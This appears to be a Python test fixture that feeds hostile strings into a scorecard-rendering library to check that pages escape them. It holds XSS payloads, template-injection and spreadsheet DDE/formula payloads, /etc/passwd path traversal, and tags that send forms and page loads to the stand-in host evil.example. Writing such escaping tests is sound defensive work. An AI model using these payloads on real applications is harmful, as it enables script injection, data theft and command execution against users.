"""Names that a page must show and never obey."""

from __future__ import annotations

import numpy as np

import spc

NAMES = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    '"><svg/onload=window.hit=1>',
    "' onmouseover='window.hit=1",
    '" autofocus onfocus="window.hit=1',
    "` onclick=`window.hit=1",
    "<!-- a comment that never ends",
    "--><script>window.hit=1</script>",
    "<![CDATA[<b>bold</b>]]>",
    "]]><b>bold</b>",
    "</td></tr></table><h1>Out</h1>",
    "</title><script>window.hit=1</script>",
    "</style><style>*{display:none}</style>",
    "</template></noscript></textarea><plaintext>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<form action=//evil.example><input name=q>",
    "<a href=javascript:window.hit=1>press</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;b&gt; &amp; &#60;script&#62; &nbsp",
    '=HYPERLINK("//evil.example","press")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "Swindon\u202eyranidro\u202c",
    "\u2066isolated\u2069 \u200fright to left",
    "bell\x07 escape\x1b[2J nul\x00 delete\x7f",
    "two\nlines\rand\ttabs\u2028and\u2029more",
    "N" * 300,
    "word " * 60 + "end",
    "👮\u200d♀️ 🚓 calls 💥",
    "شرطة ويلتشير",
    "C:\\..\\..\\etc\\passwd %s %n %00",
)


def hostile_card() -> spc.scoring.Scorecard:  # type: ignore[name-defined]
    """Return a scorecard whose names, groups, steps and note are all hostile."""
    rng = np.random.default_rng(4)
    values = rng.poisson(40, (len(NAMES), 36)).astype(float)
    values[::3, 30:] += 60
    measures = [
        spc.Measure(
            name,
            improvement=("high", "low", "neither")[i % 3],
            group=NAMES[-1 - i // 8],
            steps=(spc.Step("2024-01", NAMES[i]),),
            change_label=NAMES[i] if i % 5 == 0 else None,
        )
        for i, name in enumerate(NAMES)
    ]
    panel = spc.Panel.from_numpy(values, start="2021-08", keys={"measure": NAMES})
    return spc.scorecard(panel, measures=spc.Catalogue(measures, note=NAMES[0]))
